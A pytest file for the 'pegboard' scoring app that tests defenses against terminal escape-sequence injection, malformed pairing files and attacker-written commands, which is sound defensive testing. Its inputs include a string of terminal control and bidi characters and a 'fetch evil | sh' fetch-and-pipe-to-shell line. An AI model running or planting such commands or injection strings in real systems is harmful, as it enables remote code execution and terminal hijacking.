"""What the account of the scores writes into its files does not steer the terminal of whoever reads it."""

import json
import os
import shutil
import unicodedata
from pathlib import Path

import pytest

from pegboard.messages import STEERING, escape_control
from pegboard.storage.journal.journal import Journal
from pegboard.storage.rescue.backups import back_up
from pegboard.streams import echo_line
from tests.cli.test_planted_files import run, state
from web.access.pairing_codes import Codes

__all__ = ["state"]

HOSTILE = "\x1b]0;gotcha\x07\x9b31m\u202eabc\u2066\r"
FIELDS = [
    *(f"table.{name}" for name in ("url", "host", "reach", "pid", "open", "lasts_s", "paired_s", "command")),
    *(f"devices.0.{name}" for name in ("id", "session", "role", "label", "since")),
    *("scorer.0.text", "scorer.0.until", "epoch", "clock.boot", "clock.wall"),
]


def is_clean(text: str) -> bool:
    return not any(unicodedata.category(letter) in STEERING for letter in text.replace("\n", ""))


def test_what_steers_a_terminal_is_spelled_out(capsys: pytest.CaptureFixture[str]):
    echo_line(f"Zoë 山 🎲 {HOSTILE}\u200d\n")
    shown = capsys.readouterr().out
    assert shown == ("Zoë 山 🎲 \\u001b]0;gotcha\\u0007\\u009b31m\\u202eabc\\u2066\\u000d\u200d\\u000a\n")
    assert json.loads(escape_control(json.dumps(HOSTILE, ensure_ascii=False))) == HOSTILE


@pytest.fixture
def paired(state: Path) -> Path:
    """The folder with a phone that is paired, at a table that no phone reaches, and a code."""
    path = state / "pairing.json"
    values = json.loads(path.read_text())
    device = {"id": "aa", "session": "s", "role": "scorer", "label": "Phone", "since": values["clock"]["table"]}
    code = {"text": "ABCDEF", "until": values["clock"]["table"] + 590}
    values |= {"devices": [device], "scorer": [code]}
    values["table"] |= {"reach": "machine", "url": "http://127.0.0.1/", "command": "pegboard run --open"}
    path.write_text(json.dumps(values))
    return path


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("value", [HOSTILE, [], 1e300, -1, "x" * 2000], ids=["escapes", "list", "huge", "less", "long"])
def test_a_file_of_pairings_that_makes_no_sense_or_does_harm_is_none(paired: Path, field: str, value: object):
    sound = json.loads(paired.read_text())
    assert Codes(paired.parent).devices
    place = sound
    *way, last = (int(word) if word.isdigit() else word for word in field.split("."))
    for word in way:
        place = place[word]
    if isinstance(value, int) and isinstance(place[last], (int, float)) and last not in {"pid", "open"}:
        pytest.skip("a number like others")
    place[last] = value
    paired.write_text(json.dumps(sound))
    codes = Codes(paired.parent)
    assert (codes.devices, codes.table, codes.epoch) == ((), None, "")


def test_root_names_no_command_that_the_account_has_written(paired: Path):
    values = json.loads(paired.read_text())
    values["table"]["command"] = "fetch evil | sh"
    paired.write_text(json.dumps(values))
    ran = run("-m", "pegboard", "code", "--state", str(paired.parent))
    assert ran.returncode == 0, ran.stderr
    assert ("fetch evil" in ran.stdout) == (os.geteuid() != 0)
    if os.geteuid() == 0:
        assert f"-m pegboard run --state {paired.parent} --host 0.0.0.0 --open" in ran.stdout


@pytest.mark.sampled(least=2)
@pytest.mark.parametrize("command", ["check", "check --json", "restore newest --yes", "rebuild", "backup", "export"])
def test_names_of_files_do_not_steer_the_terminal(tmp_path: Path, command: str):
    folder = tmp_path / "state"
    Journal(folder).close()
    made, _ = back_up(folder, 1.8e9)
    room = folder / "quarantine" / f"20261125T201500Z{HOSTILE}"
    room.mkdir(parents=True)
    (room / "journal.db").write_text("x")
    (room / "outcome.json").write_text(json.dumps({"games": [HOSTILE], "what": HOSTILE}))
    for path in (made.path.with_name(f"journal-{HOSTILE}.db"), folder / f"journal-v4{HOSTILE}.db"):
        path.write_text("x")
        path.chmod(0o644)
    ran = run("-m", "pegboard", *command.split(), "--state", str(folder))
    assert is_clean(ran.stdout + ran.stderr)
    assert "Traceback" not in ran.stderr
    hostile = tmp_path / HOSTILE
    shutil.move(folder, hostile)
    ran = run("-m", "pegboard", *command.split(), "--state", str(hostile))
    assert is_clean(ran.stdout + ran.stderr)


def test_root_is_told_to_take_rights_as_the_owner(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """As root, `chmod` could be led elsewhere by whoever owns the folder."""
    folder = tmp_path / "a folder"
    Journal(folder).close()
    (folder / "journal.db").chmod(0o644)
    owner = folder.owner()
    for user, command in ((owner, "chmod -R"), ("somebody", f"sudo -u {owner} chmod -R")):
        monkeypatch.setenv("LOGNAME", user)
        monkeypatch.setenv("USER", user)
        ran = run("-m", "pegboard", "check", "--state", str(folder))
        assert f"fix: {command} u=rwX,go= '{folder}'" in ran.stdout


def test_an_import_waits_for_nobody_who_opens_the_pipe(tmp_path: Path):
    os.mkfifo(tmp_path / "pipe")
    ran = run("-m", "pegboard", "import", str(tmp_path / "pipe"), "--state", str(tmp_path / "state"))
    assert ran.returncode == 2
    assert "Traceback" not in ran.stderr
    assert "pipe: " in ran.stderr
